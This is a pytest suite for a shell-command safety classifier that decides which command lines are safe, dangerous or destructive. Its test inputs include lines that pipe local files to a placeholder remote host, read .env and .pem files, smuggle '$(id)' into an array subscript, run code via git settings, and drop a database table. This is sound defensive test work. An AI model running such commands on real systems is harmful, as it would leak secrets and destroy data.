"""Cases of one command: what only prints, the safe case of a dangerous one, and what an option makes it run."""

from __future__ import annotations

import pytest

from assent.analysis.resources.paths import Place
from assent.model import Facts, Tier
from lines import PLACE, commands, operations, tier, touched


@pytest.mark.parametrize(
    "line",
    [
        "rm --help",
        "git push --help",
        "git -C sub commit -h",
        "docker rm --help",
        "sudo --version",
        "npm install --help",
        "deno run --help",
        "kubectl -n x delete --help",
    ],
)
def test_a_question_alone_behind_a_command_is_safe(line: str) -> None:
    assert tier(line) is Tier.SAFE


@pytest.mark.parametrize(
    "line",
    [
        "rm x --help",
        "rm --help x",
        "rm -f --help",
        "rm --help*",
        'rm "--$X"',
        "git push -h x",
        "git -c core.pager=./x push --help",
        "git -c core.fsmonitor=./x push --help",
        "docker -H tcp://x rm --help",
        "husky --version",
        "pnpm test --help",
        "echo 'exec touch x' | tclsh --version",
        "python3 --version < x",
        "./rm --help",
        "redis-cli del --help",
        "source --help",
    ],
)
def test_a_question_with_anything_else_is_not(line: str) -> None:
    assert tier(line) is not Tier.SAFE


def test_only_asking_touches_nothing() -> None:
    assert touched("rm --help") == []


@pytest.mark.parametrize(
    ("line", "safe"),
    [
        ("brew --prefix openssl", True),
        ("brew --prefix ./x.rb", False),
        ("fdisk -l /dev/sda", True),
        ("fdisk /dev/sda", False),
        ("git add -n .", True),
        ("git add .", False),
        ("kubectl apply -f x.yaml --dry-run=client", True),
        ("kubectl apply -f x.yaml --dry-run=client --dry-run=none", False),
        ('kubectl apply -f x.yaml --dry-run="$X"', False),
        ("opam switch list", True),
        ("opam switch x", False),
        ('opam switch "$X"', False),
        ("opam list *", False),
        ("rsync -n a b", True),
        ("rsync -n a h:b", False),
        ("taskset -p 12", True),
        ("taskset -p 0x1 12", False),
        ("taskset 0x1 rm x", False),
        ("local x=$(pwd)", True),
        ("local 'a[$(id)]=1'", False),
    ],
)
def test_the_safe_case_of_a_command_must_be_sure(line: str, safe: bool) -> None:
    assert (tier(line) is Tier.SAFE) is safe


def test_what_a_case_does_not_run_is_not_listed() -> None:
    assert commands("taskset -p 12") == ["taskset -p 12"]
    assert commands("taskset 0x1 ls") == ["taskset 0x1 ls", "ls"]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("fd -e py -x wc -l", ["fd -e py -x wc -l", "wc -l \ufdd0"]),
        ("fd x -x mv {} {.}.bak ';'", ["fd x -x mv '{}' '{.}.bak' ';'", "mv \ufdd0 \ufdd0.bak"]),
        ("fd x -X rm ';' src", ["fd x -X rm ';' src", "rm \ufdd0"]),
        ("fd -xrm", ["fd -xrm", "rm \ufdd0"]),
        ("fd x --exec=rm y", ["fd x --exec=rm y", "rm y \ufdd0"]),
        ("fd x -x", ["fd x -x"]),
    ],
)
def test_a_command_behind_an_option_is_found(line: str, expected: list[str]) -> None:
    assert commands(line) == expected


@pytest.mark.parametrize("line", ["fd -x", "fd -xwc", "fd --exec=wc", "fd x -x touch {}"])
def test_a_command_behind_an_option_counts(line: str) -> None:
    assert tier(line) is Tier.DANGEROUS


@pytest.mark.parametrize(
    "line", ["fd -H .env -x cat", r"fd -H '^\.env$' -x cat {}", "fd -e pem -x cat", "fd -g '.e*' -x cat"]
)
def test_what_fd_is_after_is_what_its_command_reads(line: str) -> None:
    assert any(o.secret for o in operations(line))


@pytest.mark.parametrize(
    ("line", "safe"),
    [
        ("python -m json.tool x", True),
        ("python3 -I -m json.tool x", True),
        ("python3 -mjson.tool x", True),
        ("python -m pip list", True),
        ("python -m pip --version", True),
        ("python -m pip install x", False),
        ("python -m json.tool a b", False),
        ("python -m sort x", False),
        ("python -m", False),
        ("python -i -m json.tool x", False),
        ('python -m "$X"', False),
        ("python '-m json.tool' x", False),
        ("python -m zipfile -l x.zip", True),
        ("python -m zipfile -e x.zip y", False),
    ],
)
def test_a_module_is_read_like_a_command_where_it_is_known(line: str, safe: bool) -> None:
    assert (tier(line) is Tier.SAFE) is safe


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("cargo --version", "cargo"),
        ("cargo tree", "cargo"),
        ("python -m json.tool x", "python"),
        ("python3 -m pip list", "pip"),
        ("terraform validate", "terraform"),
        ("yarn --version", "yarn"),
        ("bundle --version", "bundler"),
        ("git push --help", "git"),
        ("ruff check .", "fixers"),
        ("codespell", "fixers"),
    ],
)
def test_what_a_project_can_turn_into_code_is_asked_about_there(line: str, kind: str) -> None:
    trapped = Place(Facts(trap=lambda tool, _: "a trap" if tool == kind else None), "/code/app", ("/code/app",))
    assert tier(line) is Tier.SAFE
    assert tier(line, trapped) is Tier.DANGEROUS


@pytest.mark.parametrize(
    ("line", "safe"),
    [
        ("openssl s_client -connect x.example:443 </dev/null", True),
        ("echo | openssl s_client -connect x.example:443", True),
        ("openssl s_client -connect x.example:443", True),
        ("openssl s_client -connect x.example:443 < notes", False),
        ("cat notes | openssl s_client -connect x.example:443", False),
        ('echo "$X" | openssl s_client -connect x.example:443', False),
        ("{ openssl s_client -connect x.example:443; } < notes", False),
        ("http https://x.example <<< $(cat notes)", False),
    ],
)
def test_what_is_fed_to_another_machine_must_be_nothing(line: str, safe: bool) -> None:
    assert (tier(line) is Tier.SAFE) is safe


@pytest.mark.parametrize(
    ("line", "safe"),
    [
        ('while IFS= read -r f; do wc -l "$f"; done < x', True),
        ("IFS=, read -r a b", True),
        ("IFS=x ls", False),
        ("IFS=x", True),
        ("IFS=x; f() { ls; }; f", False),
        ("f() { ls; }; IFS=x; f", False),
        ("export IFS=x", False),
        ("ping6 -c 1 ::1", True),
        ("tee >(wc -l)", True),
        ("diff <(ls) <(pwd)", True),
        ("ls -d .*", True),
        ("lsof -u $USER", True),
        ("USER=-x; lsof -u $USER", False),
        ("lsof -u $X", False),
    ],
)
def test_everyday_forms(line: str, safe: bool) -> None:
    assert (tier(line) is Tier.SAFE) is safe


def test_names_are_listed_but_contents_with_secrets_are_not() -> None:
    assert not any(o.secret for o in operations("ls -d .*", PLACE))
    assert any(o.secret for o in operations("cat .*", PLACE))


@pytest.mark.parametrize(
    ("line", "safe"),
    [
        ("yes | cat > f", False),
        ("yes | head -3 > f", True),
        ("f() { yes; }; f > x", False),
        ("bash -c 'yes | head -3' > f", True),
        ("bash -c 'yes | cat' > f", False),
        ("cat /dev/zero > f", False),
        ("cat /dev/zero", True),
        ("cat < /dev/urandom > f", False),
        ("cat < g > f", True),
        ("while :; do echo x; done > f", False),
        ("seq inf > f", False),
        ("seq 3 > f", True),
    ],
)
def test_what_never_ends_is_not_written_to_a_file(line: str, safe: bool) -> None:
    assert (tier(line) is Tier.SAFE) is safe


@pytest.mark.parametrize(
    ("line", "safe"),
    [
        ('aws logs filter-log-events --log-group-name g --start-time "$(date +%s)"', True),
        ('aws logs filter-log-events --log-group-name g --start-time "$(cat x)"', False),
        ('n=$(wc -l < f); sed -n "${n}p" f', True),
        ('n=$(wc -l < f); sed "${n}w x" f', False),
        ('curl "http://x.example/?t=$(date +%s)"', True),
        ('curl "http://x.example/?t=$(wc -l < f)"', False),
        ('n=$(wc -l < f); curl "${n}o"', False),
    ],
)
def test_numbers_and_times_are_read_by_their_shape(line: str, safe: bool) -> None:
    assert (tier(line) is Tier.SAFE) is safe


@pytest.mark.parametrize(
    ("line", "safe"),
    [
        ("git -c color.ui=never status", True),
        ("git -c core.pager=cat log", True),
        ("git -c core.pager=less log", True),
        ("git -c core.pager= log", True),
        ("git -c core.pager=more log", False),
        ("git -c core.editor=cat log", False),
    ],
)
def test_a_setting_that_runs_nothing_new_is_safe(line: str, safe: bool) -> None:
    assert (tier(line) is Tier.SAFE) is safe


@pytest.mark.parametrize(
    ("line", "judged"),
    [
        ("psql <<< 'drop table users'", Tier.DESTRUCTIVE),
        ("psql <<E\ndrop table users\nE", Tier.DESTRUCTIVE),
        ("psql < x.sql", Tier.DANGEROUS),
    ],
)
def test_statements_that_are_fed_are_judged_as_given_ones(line: str, judged: Tier) -> None:
    assert tier(line) is judged
